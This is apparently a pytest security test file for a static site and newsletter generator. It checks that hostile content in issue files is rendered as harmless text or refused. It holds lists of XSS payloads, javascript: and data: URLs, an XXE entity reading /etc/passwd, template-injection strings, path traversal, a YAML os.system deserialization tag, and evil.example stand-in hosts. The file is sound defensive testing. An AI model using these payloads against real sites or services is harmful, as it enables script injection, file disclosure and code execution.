"""Whatever an issue says, in whichever form and field: in every rendition it is text, or nothing.

A preview is built too, since it shows what has errors; a build refuses that.
"""

import json
import re
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from lxml import etree, html

from tests.site.world import SETTINGS, World

# Each is told by a word of its own, which must be there as text or not at all.
SCRIPTS = (
    "<script>evil1()</script>",
    '<img src=x onerror="evil2()">',
    '<svg onload="evil3()"><script>evil3()</script></svg>',
    '<a href="javascript:evil4()">x</a>',
    '"><script>evil5()</script>',
    "'onmouseover='evil6()",
    "<iframe srcdoc='<script>evil7()</script>'></iframe>",
    "</title><script>evil8()</script>",
    "]]><script>evil9()</script>",
    "<style>@import 'https://evil.example/';</style>",
    "</style><script>evil10()</script>",
    "<!--[if mso]><script>evil11()</script><![endif]-->",
    "<![CDATA[<script>evil12()</script>]]>",
    '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=x'>",
    "<form action='https://evil.example/'><input autofocus onfocus=evil13()>",
    "&lt;script&gt;evil14()&lt;/script&gt;",
    "{{ 7*7 }}{% include '/etc/passwd' %}{{ ''.__class__ }}{# x #}",
    "${7*7} #{7*7} <%= 7*7 %> *|MERGE|* %recipient%",
    "\u202eevil\u2066\u200b\ufeff\u061c",
    "\x00 words that are \x07 longer than \x1b[31m the few \x7f controls among \x9b them",
)
URLS = (
    "javascript:evil()",
    "JaVaScRiPt:evil()",
    " \tjava\nscript:evil()",
    "\x01javascript:evil()",
    "data:text/html,<script>evil()</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "vbscript:evil()",
    "file:///etc/passwd",
    "blob:https://x/y",
    "cid:x",
    "//evil.example/x",
    'https://a.example/"onmouseover="evil()',
    "https://a.example/'><script>evil()</script>",
    "https://a.example/\u202e\x00{{ 7*7 }}",
    "https://[",
    "https://a.example:99999/",
    "https://user:password@a.example/",
    '#"><script>evil()</script>',
    "../../etc/passwd",
    "media/../publisher.toml",
    "media/%2e%2e/publisher.toml",
    "x" * 5_000,
)


def quoted(text: str) -> str:
    return json.dumps(text)


def hostile_yaml(text: str, url: str) -> str:
    """The same hostile words in every field that there is; JSON is YAML."""
    highlight = {
        **dict.fromkeys(("title", "source", "alt", "guid", "body", "language"), text),
        "url": url,
        "image": url,
        "tags": [text, "film"],
        "id": "h",
    }
    linked = f"[{text}]({url} '{text}') ![{text}](<{url}> \"{text}\") <{url}> `{text}`"
    second = {"id": "g", "title": "Links", "body": f"{linked}\n\n> {text}\n\n    {text}\n"}
    issue = {
        **dict.fromkeys(("title", "summary", "guid", "introduction"), text),
        "id": "i",
        "status": "ready",
        "date": "2026-01-05T07:00:00Z",
        "tags": [text],
        "authors": [text, {"name": text, "email": text}, f"{text} <a@b.example>"],
        "highlights": [highlight, second],
    }
    return json.dumps(issue)


def hostile_markdown(text: str, url: str) -> str:
    line = text.replace("\n", " ")
    attribute = re.sub(r'["\\\n\x00-\x1f]', "", text)
    address = re.sub(r'["\\\n\x00-\x1f ]', "", url)
    return (
        f"---\nid: i\nstatus: ready\ntitle: {quoted(line)}\nsummary: {quoted(line)}\n"
        f"tags: [{quoted(line)}]\nauthors: {quoted(line)}\n---\n\n{text}\n\n"
        f'## [{line}]({address}) {{#h source="{attribute}" image="{address}" alt="{attribute}"'
        f' tags="{attribute}" guid="{attribute}"}}\n\n{text}\n\n[{line}]({address})'
        f" ![{line}]({address})\n\n| {line} |\n|---|\n| {line} |\n\n### {line}\n\n```{line}\n"
        f"{text}\n```\n\n1. {line}\n"
    )


_ALLOWED_SCHEMES = ("https://", "http://", "mailto:", "#")


def elements_of(path: str, data: bytes) -> Iterator[etree._Element]:
    """Every element of a document, those inside the HTML of feeds included."""
    if path.endswith((".atom", ".rss", ".xml", ".opml")):
        for element in etree.fromstring(data).iter("*"):
            yield element
            is_summary = element.tag == "description" and element.getparent().tag == "item"
            if is_summary or element.get("type") == "html" or "encoded" in element.tag:
                yield from html.fragment_fromstring(element.text or "", "div").iter("*")
    elif path.endswith(".json") and not path.startswith("search/"):  # that is all text
        for item in json.loads(data)["items"]:
            yield from html.fragment_fromstring(item.get("content_html", ""), "div").iter("*")
    elif path.endswith(".html"):
        yield from html.document_fromstring(data).iter("*")


_ACTIVE = ("script", "iframe", "svg", "object", "embed", "base", "math")
_ADDRESSES = ("href", "src", "action", "formaction", "background", "poster", "srcset")


def is_own_script(path: str, element: etree._Element) -> bool:
    """A block of data, which no browser runs, or the file that searches."""
    if element.get("type") == "application/ld+json":
        return bool(json.loads(element.text)["@context"] == "https://schema.org")
    src = element.get("src") or ""
    return path == "search/index.html" and src.startswith("../assets/") and not element.text


def assert_harmless(world: World) -> None:
    files = world.files()
    assert "index.html" in files
    for path, data in files.items():
        if path.endswith(".png"):
            continue
        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", data), path
        assert b"root:" not in data, path
        for element in elements_of(path, data):
            name = etree.QName(element).localname.lower()
            where = (path, etree.tostring(element)[:200])
            if name == "script":
                assert is_own_script(path, element), where
                continue
            assert name not in _ACTIVE, where
            assert name != "style" or path.endswith("email.html"), where
            for attribute, value in element.attrib.items():
                assert not attribute.lower().startswith("on"), where
                assert attribute != "srcdoc", where
                if attribute in _ADDRESSES:
                    address = value.strip().lower().removeprefix("feed:")  # the site's own feeds
                    assert address.startswith(_ALLOWED_SCHEMES), where
                if attribute == "style":
                    assert "evil" not in value, where


@pytest.mark.parametrize("form", ["yaml", "md"])
@pytest.mark.parametrize("batch", range(4))
def test_scripts_are_text_in_every_field(world: World, form: str, batch: int) -> None:
    size = -(-len(SCRIPTS) // 4)
    for number, text in enumerate(SCRIPTS[batch * size : (batch + 1) * size]):
        write = hostile_markdown if form == "md" else hostile_yaml
        content = write(text, URLS[number]).replace('"i"', f'"i{number}"')
        for old in ("h", "g"):
            content = content.replace(f'"id": "{old}"', f'"id": "{old}{number}"')
        content = content.replace("{#h ", f"{{#h{number} ").replace("id: i\n", f"id: i{number}\n")
        world.write(f"issues/2026-01-{number + 10}.{form}", content)
    world.preview()
    assert_harmless(world)
    # Something of each is still there: it was shown, not dropped.
    for number, _ in enumerate(SCRIPTS[batch * size : (batch + 1) * size]):
        assert len(world.read(f"highlights/h{number}/index.html")) > 2_000


@pytest.mark.parametrize("batch", range(3))
def test_addresses_that_lead_elsewhere_are_no_links(world: World, batch: int) -> None:
    for number, url in enumerate(URLS[batch::3]):
        content = hostile_yaml("Words", url).replace('"i"', f'"i{number}"')
        content = content.replace('"h"', f'"h{number}"').replace('"g"', f'"g{number}"')
        world.write(f"issues/2026-01-{number + 10}.json", content.replace("Words", f"W{number}"))
        attribute = json.dumps(url)
        body = f"## [T]({url}) {{#m{number} image={attribute}}}\n\n<{url}>\n\n![x]({url})\n"
        world.issue(f"2026-02-{number + 10}", body)
    world.preview()
    assert_harmless(world)


@pytest.mark.parametrize("url", ["javascript:evil()", "jAvAsCrIpT:x", "https://[", "http://"])
def test_a_build_refuses_bad_addresses(world: World, url: str) -> None:
    world.issue("2026-01-05", f"## A {{#a}}\n\n[x]({url})\n")
    report = world.build()
    assert report.is_refused
    assert {p.rule for p in report.problems if p.level == "error"} <= {
        "url-javascript",
        "url-malformed",
    }
    assert not world.files()


def test_templates_in_an_issue_are_never_filled_in(world: World) -> None:
    text = "{{ 7*7 }} {{ issue }} {% for x in range(9) %}x{% endfor %} {{ config }} ${ENV}"
    world.write("publisher.toml", SETTINGS + "subject = 'News: {{ issue.title }}'\n")
    world.issue("2026-01-05", f"## {text} {{#a}}\n\n{text}\n", title=quoted(text))
    world.build()
    for path in ("email.txt", "email.html", "index.html"):
        shown = world.read(f"issues/2026-01-05/{path}")
        shown = html.fromstring(shown).text_content() if path != "email.txt" else shown
        assert "{{ 7*7 }}" in re.sub(r"[\s\u200b\u2060]+", " ", shown), path


def test_characters_by_escapes_are_dropped_and_said(world: World) -> None:
    escapes = '"a\\ud800b\\u0000c\\u001bd\\ufffee\\r\\nf\\u2028g\\u0085h"'
    world.write(
        "issues/2026-01-05.json",
        '{"id": "i", "status": "ready", "title": %s, "summary": %s, "tags": [%s], "authors": [%s],'
        ' "highlights": [{"id": "h", "title": %s, "body": %s, "alt": %s}]}' % ((escapes,) * 7),
    )
    report = world.build()
    assert not report.is_refused
    said = [p.message for p in report.problems if p.rule == "control-characters"]
    assert said
    assert all("U+0000, U+001B, U+D800, U+FFFE" in message for message in said)
    assert_harmless(world)
    assert "abcde f g h" in html.fromstring(world.read("highlights/h/index.html")).text_content()


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.json", '{"\\ud800": 1, "id": "\\ud800"}'),
        ("a.json", '{"number": ' + "1" * 5_000 + "}"),
        ("a.json", "[" * 100_000),
        ("a.json", '{"highlights":' * 900 + "1" + "}" * 900),
        ("a.yaml", "[" * 100_000),
        ("a.yaml", "- " * 50_000),
        ("a.yaml", "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n"),
        ("a.yaml", "a: &a {b: 1}\n<<: *a\n"),
        ("a.yaml", "id: a\nid: b\n"),
        ("a.json", '{"id": "a", "id": "b"}'),
        ("a.yaml", "id: a\nhighlights:\n- {id: b, id: c}\n"),
        ("a.md", "---\nid: [\n---\n"),
        ("a.md", "\0\1\2\3" * 100),
        ("a.md", "\ufeff"),
        ("a.yaml", "--- a\n--- b\n"),
        ("a.yaml", "%TAG ! tag:x:\n---\n!x y"),
    ],
)
def test_what_cannot_be_read_is_said_and_nothing_else_happens(
    world: World, name: str, text: str
) -> None:
    world.issue("2026-01-05")
    world.build()
    before = world.files()
    world.write(f"issues/{name}", text)
    report = world.build()
    assert all(problem.file == f"issues/{name}" for problem in report.problems)
    assert report.problems
    assert world.files() == before


def test_a_yaml_tag_makes_nothing(world: World, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    tags = f"!!python/object/apply:os.system ['touch {mark}']"
    world.write(
        "issues/2026-01-05.yaml",
        f"id: i\nstatus: ready\ntitle: {tags}\nsummary: !!binary aGk=\nhighlights:\n"
        f"- id: h\n  title: !!python/name:os.system t\n  body: !!str text\n  tags: {tags}\n",
    )
    report = world.build()
    assert not mark.exists()
    assert not report.is_refused
    assert "aGk=" in world.read("issues/2026-01-05/index.html")


FRONT = "---\nid: a\ntitle: t\nstatus: ready\n---\n\n"
TITLE = "## T {#h}\n\n"


@contextmanager
def seconds(most: int) -> Iterator[None]:
    """What takes the square of its length never ends in this time."""
    signal.alarm(most)
    try:
        yield
    finally:
        signal.alarm(0)


@pytest.mark.parametrize("size", [15_000, pytest.param(300_000, marks=pytest.mark.long)])
@pytest.mark.parametrize(
    "text",
    [
        *(f"{TITLE}«{each}»" for each in ("x", "word ", "a\n\n", "- a\n", "> ", "https://a.b ")),
        *(f"{TITLE}«{each}»" for each in "[*>#|_`<!~&\\{"),
        *(f"{TITLE}«{each}»" for each in ("**a ", "![a](", "[a](b ", "<http://", "</a ", "&#1")),
        f"{TITLE}|«a|»\n|«-|»\n",
        f"{TITLE}«**a »«b** »",
        "## «{#a »\n\nText.\n",
        '---\nid: b\nsummary: "a« »b"\n---\n',
    ],
)
def test_gigantic_input_takes_its_time_and_no_more(world: World, text: str, size: int) -> None:
    """What stands in «…» is written again and again."""
    repeated = re.compile("«(.+?)»", re.DOTALL)
    text = repeated.sub(lambda match: match[1] * (size // len(match[1])), text)
    with seconds(20 if size < 100_000 else 120):
        world.write("issues/2026-01-05.md", (FRONT if text[0] == "#" else "") + text)
        report = world.preview()
    length = (world.public / "issues/2026-01-05/email.html").stat().st_size
    assert length < 105_000 or "message-too-large" in {p.rule for p in report.problems}


@pytest.mark.parametrize("count", [200, pytest.param(5_000, marks=pytest.mark.long)])
def test_an_issue_of_very_many_highlights(world: World, count: int) -> None:
    parts = [f"## Title {i} {{#h{i} .film}}\n\nText {i}.\n\n" for i in range(count)]
    with seconds(60):
        world.issue("2026-01-05", "".join(parts), mail=False)
        report = world.preview()
    assert report.highlights == count
    assert f"highlights/h{count - 1}/index.html" in world.files()


def test_an_issue_over_the_limit_is_refused_unread(world: World) -> None:
    world.write("issues/2026-01-05.md", FRONT + "x" * 2_000_000)
    with seconds(10):
        assert [p.rule for p in world.build().problems] == ["file-too-large"]
